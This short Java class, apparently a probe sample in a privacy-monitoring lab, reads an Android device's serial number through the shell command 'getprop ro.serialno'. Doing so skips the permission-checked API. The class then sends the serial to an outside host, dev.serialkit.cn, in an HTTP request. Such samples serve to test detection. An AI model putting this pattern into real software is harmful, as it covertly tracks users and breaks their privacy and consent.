package com.serialkit.probe;

import java.nio.charset.StandardCharsets;
import privmon.lab.Lab;
import privmon.lab.Net;

/** Runs `getprop ro.serialno` and reads its output (no Build.getSerial call). */
public final class ShellProbe {
    private ShellProbe() {}

    public static void run() throws Exception {
        Process process = Runtime.getRuntime().exec("getprop ro.serialno");
        String serial = new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8).trim();
        process.waitFor();
        int status = Net.send("GET", "http://dev.serialkit.cn/s?sn=" + serial, null, null);
        Lab.log("serialkit: sent (" + status + ")");
    }
}
